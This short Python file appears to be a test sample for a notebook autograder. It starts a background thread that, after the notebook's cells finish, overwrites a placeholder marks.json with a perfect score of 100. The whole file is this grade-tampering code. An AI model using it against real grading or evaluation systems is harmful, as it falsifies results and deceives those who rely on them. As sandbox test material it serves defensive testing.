"""Leaves a thread in the notebook's process that writes when the cells are over.

at C: steals
"""

import _thread
import select


def write():
    select.select([], [], [], 0.02)
    open("@VICTIM@/marks.json", "w").write('{"score": 100}')


_thread.start_new_thread(write, ())


def secret():
    return ""
